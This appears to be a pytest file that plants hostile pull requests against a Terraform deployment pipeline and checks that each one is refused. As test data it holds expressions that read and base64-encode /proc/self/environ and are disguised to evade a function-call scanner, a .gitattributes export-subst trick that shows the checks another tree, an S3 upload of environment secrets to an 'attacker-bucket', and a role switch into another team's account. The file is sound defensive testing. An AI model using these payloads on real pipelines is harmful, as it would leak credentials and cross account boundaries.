"""The attacks of a hostile review of the pipeline's trust boundary, each planted as a pull request would plant it (on
top of the repository fixture of test_planted_pull_requests.py) and each refused with a clear message, no traceback.
Most come in a pull request that also touches the compiler, so that check-stacks holds its stacks to the allow-list
alone (no rebuild to compare with): the allow-list must refuse them by itself."""

import json
import os

import pytest

from modules.base.gitbase import LinkOutside, extract, show
from modules.post.manifest import Manifest
from modules.post.run import context, outputs_values
from tests.delivery.test_planted_pull_requests import ROOT, STACK, _edit_json, _edit_text, check, plant, repo  # noqa: F401
from tests.post.fakes import FakeGateway

TOUCH = _edit_text("modules/base/naming.py", '"""', '"""A harmless edit. ')
HIDDEN_CALLS = {
    # Terraform ignores "//" only in block bodies; in an object *expression* it is an ordinary key, evaluated.
    "slash-key-in-an-object-expression": ({"//": '${base64encode(file("/proc/self/environ"))}'}, 'an expression calls "base64encode"()'),
    # `1:file` is no name: the `(` after it is refused (and `file` would be refused as a name too).
    "conditional-colon": (
        '${false?1:base64encode(false?1:file("/proc/self/environ"))}',
        'a parenthesis after "1:base64encode", which is not a function name',
    ),
    "subtraction": ('${1-file("/proc/self/environ")}', 'a parenthesis after "1-file", which is not a function name'),
}


@pytest.mark.parametrize("name", HIDDEN_CALLS)
def test_a_function_call_hidden_from_the_scanner_is_refused(repo, run_cli, name):  # noqa: F811
    value, message = HIDDEN_CALLS[name]
    out_edit = _edit_json(f"{STACK}/cdk.tf.json", lambda d: d["output"].update({"x": {"value": value}}))
    sha = plant(repo, lambda root: (TOUCH(root), out_edit(root)))
    for extra in ([], ["--rebuild", "never", "--stack", "pricing-dev"]):  # the whole commit; plan-stacks.yml's call
        code, out, err = check(run_cli, repo, sha, *extra)
        assert code == 1 and out == "" and message in err, err


def _fmt(text: str) -> str:
    """text as the literal of a git pretty-format placeholder (what `export-subst` expands at archive time)."""
    return text.replace("%", "%%").replace('"', "%x22").replace("\\", "%x5c").replace("$", "%x24")


def _drop_a_profile_but_show_an_archive_the_old_stack(root):
    path = root / STACK / "cdk.tf.json"
    doc = json.loads(path.read_text())
    original = json.dumps(doc["resource"], separators=(",", ":"))
    del doc["resource"]["aws_sagemaker_user_profile"]["profiles"]["for_each"]["dana"]  # dana's home folder goes
    doc.pop("//")
    # what `git archive` makes of it: "//": "", "resource": <the original>, "//": ""  (json.loads keeps the last)
    doc["//"] = "$Format:" + _fmt('", "resource": ' + original + ', "//": "') + "$"
    path.write_text(json.dumps(doc, indent=2))
    (root / ".gitattributes").write_text("generated/** export-subst\n")


def test_a_gitattributes_cannot_show_the_checks_another_tree(repo, run_cli):  # noqa: F811
    """`git archive` applied the pull request's own export-subst: check-destroy judged the old stack while Terraform
    read the committed one. The readers now take blobs as committed, and check-stacks refuses the file itself."""
    sha = plant(repo, lambda root: (TOUCH(root), _drop_a_profile_but_show_an_archive_the_old_stack(root)))
    code, out, err = run_cli(["check-destroy", "--base", "main", "--head", sha, "--out", str(repo / "generated")])
    assert code == 1 and 'aws_sagemaker_user_profile.profiles["dana"]' in out and "NOT APPROVED" in out, out + err
    code, out, err = check(run_cli, repo, sha)
    assert code == 1 and '".gitattributes": a .gitattributes that applies to registry/ or generated/ is not accepted' in err, err


ATTRIBUTED = {
    ".gitattributes": '".gitattributes": a .gitattributes that applies to registry/ or generated/',
    "generated/.gitattributes": '"generated/.gitattributes": a .gitattributes that applies to registry/ or generated/',
    "generated/stacks/pricing-dev/.gitattributes": '"pricing-dev": ".gitattributes" is a file; a stack folder holds exactly one',
    "registry/teams/.gitattributes": "registry/teams/.gitattributes:1: a hidden file (its name starts with '.') is never read",
}


@pytest.mark.parametrize("where", ATTRIBUTED)
def test_every_gitattributes_that_reaches_the_registry_or_the_output_is_refused(repo, run_cli, where):  # noqa: F811
    sha = plant(repo, lambda root: (root / where).write_text("* ident eol=crlf\n"))
    for extra in ([], ["--rebuild", "never", "--stack", "pricing-dev"]):
        code, out, err = check(run_cli, repo, sha, *extra)
        assert code == 1 and ATTRIBUTED[where] in err, err
    docs = plant(repo, lambda root: ((root / "docs").mkdir(), (root / "docs" / ".gitattributes").write_text("* ident\n")))
    assert check(run_cli, repo, docs)[0] == 0, "one that cannot reach them is left alone"


def test_the_git_readers_take_blobs_as_committed(repo, tmp_path):  # noqa: F811
    def attributed(root):
        (root / ".gitattributes").write_text("registry/teams/** export-ignore\nregistry/** export-subst ident\n")
        (root / "registry" / "note.txt").write_text("$Format:%H$ $Id$\n")

    sha = plant(repo, attributed)
    got = extract(sha, "registry", repo, tmp_path / "x")
    assert got is not None and (got / "teams" / "pricing.yaml").is_file(), "export-ignore dropped nothing"
    assert (got / "note.txt").read_text() == "$Format:%H$ $Id$\n" == show(sha, "registry/note.txt", repo)
    linked = plant(repo, lambda root: os.symlink("../../main.py", root / "registry" / "teams" / "x.yaml"))
    with pytest.raises(LinkOutside, match="outside registry"):
        extract(linked, "registry", repo, tmp_path / "y")


MODE = '${var.access_mode == "plan" ? "northwind-plan" : "OrganizationAccountAccessRole"}'
CHURN_PROD = 'arn:aws:iam::${data.terraform_remote_state.organization.outputs.account_ids["churn-prod"]}:role/' + MODE
MANAGEMENT = "100000000001"


def _pricing_dev_acts_in_churn_prod_and_uploads_a_local_file(d):
    d["provider"]["aws"][0]["assume_role"][0]["role_arn"] = CHURN_PROD  # pricing-dev's default provider -> churn-prod
    d["resource"]["aws_s3_object"] = {"x": {"bucket": "attacker-bucket", "key": "env", "source": "/proc/self/environ"}}


def test_another_teams_account_and_a_local_file_are_refused(repo, run_cli):  # noqa: F811
    edit = _edit_json(f"{STACK}/cdk.tf.json", _pricing_dev_acts_in_churn_prod_and_uploads_a_local_file)
    code, out, err = check(run_cli, repo, plant(repo, lambda root: (TOUCH(root), edit(root))))
    assert code == 1 and out == "", err
    assert '"pricing-dev": provider.aws[0].assume_role.role_arn:' in err and "is not a role the compiler assumes for this stack" in err
    assert '"pricing-dev": resource aws_s3_object.x.source: reads a file of the machine that applies' in err


def test_a_stack_output_cannot_choose_the_account_the_post_step_acts_in(repo, run_cli):  # noqa: F811
    redirect = _edit_json(f"{STACK}/cdk.tf.json", lambda d: d["output"]["account_id"].update({"value": MANAGEMENT}))
    code, out, err = check(run_cli, repo, plant(repo, lambda root: (TOUCH(root), redirect(root))))
    assert code == 1 and f'"pricing-dev": output "account_id".value: "{MANAGEMENT}" where the compiler writes' in err, err

    # and should such an output reach the post-step (an older image, a state edited by hand), it is refused there
    manifest = Manifest.parse((ROOT / "generated/post/pricing-dev.json").read_text(), "pricing-dev.json")
    assert manifest.account.id is None and manifest.account.id_output == "account_id"
    gateway = FakeGateway()
    gateway.accounts = {manifest.account.name: "111122223333"}
    tf_outputs = {"account_id": {"value": MANAGEMENT, "type": "string", "sensitive": False}}  # `terraform output -json`
    with pytest.raises(ValueError, match=f'output account_id is "{MANAGEMENT}", but Organizations lists account'):
        context(manifest, gateway, outputs_values(tf_outputs), None)
    assert context(manifest, gateway, {"account_id": "111122223333"}, None).account_id == "111122223333"
    for outputs, message in (
        ({"ram_share_arns": {"price-elasticity-pipeline": "arn:aws:ram:eu-west-1:999999999999:resource-share/x"}}, "not a RAM share"),
        ({"ram_share_arns": {"price-elasticity-pipeline": "arn:aws:ram:us-east-1:111122223333:resource-share/x"}}, "not a RAM share"),
        ({"ram_share_arns": ["arn"]}, "not a map of share names"),
        ({"domain_id": "d-of-another-account"}, "but the domain 'northwind-pricing-dev' of account 111122223333"),
    ):
        with pytest.raises(ValueError, match=message):
            context(manifest, gateway, outputs, None)
